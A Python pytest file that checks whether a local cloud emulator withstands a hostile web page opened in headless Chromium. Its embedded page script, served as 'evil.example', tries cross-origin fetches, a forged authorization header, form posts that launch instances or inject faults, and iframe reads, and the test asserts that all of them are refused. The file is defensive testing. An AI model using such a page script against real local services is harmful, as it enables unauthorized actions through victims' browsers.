"""A web page in a real browser has no effect on the local cloud."""

from __future__ import annotations

import http.server
import json
import shutil
import socket
import socketserver
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from cnd.local import Endpoint, faults_laid, summary
from tests.fault.truth import Victim
from tests.hostile.asking import FORGED, LAUNCH

CHROMIUM = shutil.which("chromium")
SECONDS = 40.0  # for a browser to start and a page to try all it can, on a busy machine
FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)
# What a page can do: calls it may and may not read, with and without a question first,
# forms, frames, and its own name for the cloud, which leads to this machine.
PAGE = """<!doctype html><body><script>
const cloud = "http://127.0.0.1:CLOUD", named = "http://evil.example:CLOUD";
const form = {"Content-Type": "application/x-www-form-urlencoded"};
const told = [];
async function attempt(url, options) {
  try {
    const reply = await fetch(url, options);
    told.push([reply.type, reply.status, await reply.text()]);
  } catch (error) { told.push(["error", 0, ""]); }
}
function submit(url, kind, fields) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const made = document.createElement("form");
  Object.assign(made, {action: url, method: "POST", enctype: kind, target: frame.name});
  for (const [name, value] of new URLSearchParams(fields)) {
    const input = document.createElement("input");
    Object.assign(input, {name, value, type: "hidden"});
    made.append(input);
  }
  document.body.append(made);
  const done = new Promise(over => frame.onload = over);
  made.submit();
  return done;
}
function framed(url) {
  const frame = document.createElement("iframe");
  const done = new Promise(over => frame.onload = over);
  frame.src = url;
  document.body.append(frame);
  return done;
}
(async () => {
  for (const base of [cloud, named]) {
    const post = {method: "POST", headers: form, body: LAUNCH};
    await attempt(base + "/", post);
    await attempt(base + "/", {...post, mode: "no-cors"});
    await attempt(base + "/", {...post, headers: {...form, Authorization: FORGED}});
    await attempt(base + "/faults", {method: "POST", body: FAULT, mode: "no-cors"});
    await attempt(base + "/moto-api/reset", {method: "POST", mode: "no-cors"});
    await attempt(base + "/cnd/status", {});
    await attempt(base + "/checkip", {mode: "no-cors"});
    await attempt(base + "/evil", {method: "PUT"});
    await submit(base + "/", "application/x-www-form-urlencoded", LAUNCH);
    await submit(base + "/faults", "text/plain", FAULT + "=");
    await submit(base + "/evil", "multipart/form-data", "key=k&file=f");
    await framed(base + "/cnd/status");
    await framed(base + "/checkip");
  }
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""
FAULT = json.dumps({"action": "RunInstances", "times": "forever"})


class Recorder(socketserver.ThreadingTCPServer):
    """A proxy of the cloud that records requests and answers."""

    daemon_threads = True

    def __init__(self, port: int) -> None:
        super().__init__(("127.0.0.1", 0), Passing)
        self.cloud = port
        self.seen: list[tuple[str, dict[str, str], int, bytes]] = []


class Passing(socketserver.StreamRequestHandler):
    timeout = SECONDS

    def handle(self) -> None:
        recorder = self.server
        assert isinstance(recorder, Recorder)
        head = [line := self.rfile.readline()]
        while line.strip():
            head.append(line := self.rfile.readline())
        if not head[0].strip():
            return  # a connection that was opened in advance
        pairs = (line.decode().partition(":") for line in head[1:])
        headers = {name.lower(): value.strip() for name, _, value in pairs}
        body = self.rfile.read(int(headers.get("content-length", 0)))
        address = ("127.0.0.1", recorder.cloud)
        with socket.create_connection(address, timeout=SECONDS) as cloud:
            head = [line for line in head if not line.startswith(b"Connection:")]
            head.insert(-1, b"Connection: close\r\n")
            cloud.sendall(b"".join(head) + body)
            answer = b"".join(iter(lambda: cloud.recv(65536), b""))
        asked, status = head[0].decode().strip(), int(answer.split()[1])
        recorder.seen.append((asked, headers, status, answer))
        self.wfile.write(answer)


class Site(http.server.ThreadingHTTPServer):
    """evil.example: one page, which reports what it could read."""

    daemon_threads = True

    def __init__(self, page: str) -> None:
        super().__init__(("127.0.0.1", 0), Visit)
        self.page = page.encode()
        self.told: list[Any] = []
        self.over = threading.Event()


class Visit(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Site)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.server.page)

    def do_POST(self) -> None:
        assert isinstance(self.server, Site)
        length = int(self.headers["Content-Length"])
        self.server.told = json.loads(self.rfile.read(length))
        self.send_response(204)
        self.end_headers()
        self.server.over.set()

    def log_message(self, *args: object) -> None:
        """Log nothing: the output of a test is its failures."""


@contextmanager
def serving(server: socketserver.BaseServer) -> Iterator[None]:
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()


def visit(page: Site, recorder: Recorder, folder: Path, cloud: int) -> None:
    """Open the page in a browser, and wait until it has tried everything."""
    here = "127.0.0.1"
    rules = (
        f"MAP {here}:{cloud} {here}:{recorder.server_address[1]},"
        f"MAP evil.example:{cloud} {here}:{recorder.server_address[1]},"
        f"MAP evil.example {here}"
    )
    browser = subprocess.Popen(
        [
            str(CHROMIUM),
            *FLAGS,
            f"--user-data-dir={folder / 'profile'}",
            f"--host-resolver-rules={rules}",
            f"http://evil.example:{page.server_address[1]}/",
        ],
        stdout=subprocess.DEVNULL,
        stderr=(folder / "chromium.log").open("wb"),
    )
    try:
        assert page.over.wait(SECONDS), (folder / "chromium.log").read_text()[-2000:]
    finally:
        browser.kill()
        browser.wait()


@pytest.mark.skipif(CHROMIUM is None, reason="needs chromium")
def test_a_page_in_a_browser_moves_nothing_and_reads_nothing(
    terminal: Victim, cloud: Endpoint, tmp_path: Path
) -> None:
    port = int(cloud.url.rpartition(":")[2])
    before = summary(cloud)["calls"]
    page = PAGE.replace("CLOUD", str(port))
    for name, text in (("LAUNCH", LAUNCH), ("FORGED", FORGED), ("FAULT", FAULT)):
        page = page.replace(name, json.dumps(text))
    recorder, site = Recorder(port), Site(page)
    with serving(recorder), serving(site):
        visit(site, recorder, tmp_path, port)

    hosts = {headers["host"] for _, headers, _, _ in recorder.seen}
    assert hosts == {f"127.0.0.1:{port}", f"evil.example:{port}"}
    assert {asked.split()[0] for asked, *_ in recorder.seen} >= {
        "GET",
        "POST",
        "OPTIONS",
    }
    # All were answered, none with a permission to read.
    let_in = [(asked, headers) for asked, headers, s, _ in recorder.seen if s < 400]
    assert let_in == []
    assert {status for *_, status, _ in recorder.seen} <= {403, 404}
    assert not any(b"Access-Control" in answer for *_, answer in recorder.seen)
    # What the page could read: nothing, not even a status.
    assert {(kind, status, text) for kind, status, text in site.told} <= {
        ("error", 0, ""),
        ("opaque", 0, ""),
    }
    found = summary(cloud)
    assert (found["calls"], found["live"]) == (before, 0)
    assert faults_laid(cloud) == []
